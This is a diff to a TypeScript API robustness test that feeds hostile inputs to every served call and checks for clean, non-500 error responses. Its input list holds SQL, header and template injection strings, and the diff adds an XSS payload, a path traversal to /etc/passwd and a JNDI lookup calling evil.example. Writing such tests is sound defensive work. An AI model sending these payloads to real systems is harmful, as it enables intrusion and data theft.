@@ -15,6 +15,7 @@ const TEXTS = [
   '\u202Egnp.exe\u200B\u2066\uFEFF',
   '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{20BB7}\u91CE',
   "'; drop table member; --\r\nSet-Cookie: token=1 {{7*7}}${7*7}",
+  '"><img src=x onerror=alert(1)><script>alert(1)</script>../../../etc/passwd%00${jndi:ldap://evil.example}',
   '__proto__',
   'x'.repeat(5000),
   '0',
@@ -28,6 +29,7 @@ const NUMBERS = [Number.MAX_SAFE_INTEGER, 2 ** 31, -1];
 let database: Awaited<ReturnType<typeof testDatabase>>;
 let app: TestApp;
 let member: Identity;
+let tried = 0;
 
 beforeAll(async () => {
   database = await testDatabase();
@@ -35,6 +37,7 @@ beforeAll(async () => {
   member = await signIn(app, '66000109');
 });
 afterAll(async () => {
+  process.stdout.write(`hostile texts and numbers: ${tried} tried in ${servedCalls.length} calls\n`);
   await app.fastify.close();
   await database.drop();
 });
@@ -64,8 +67,10 @@ function attacksOn(call: ServedCall, value: string | number): Attack[] {
 
 async function failureOf({ call, params, payload, where }: Attack): Promise<string[]> {
   const body = call.row.once === true ? { idempotencyKey: newRandom(), ...payload } : payload;
-  const { status } = await send(app, call.key, { as: member, params, payload: body });
-  return status < 500 ? [] : [`${status} ${call.key} ${where}`];
+  const { status, envelope } = await send(app, call.key, { as: member, params, payload: body });
+  tried += 1;
+  const isClear = Number.isInteger(envelope.code) && typeof envelope.message === 'string';
+  return status < 500 && isClear ? [] : [`${status} ${call.key} ${where}`];
 }
 
 async function failuresWith(value: string | number): Promise<string[]> {
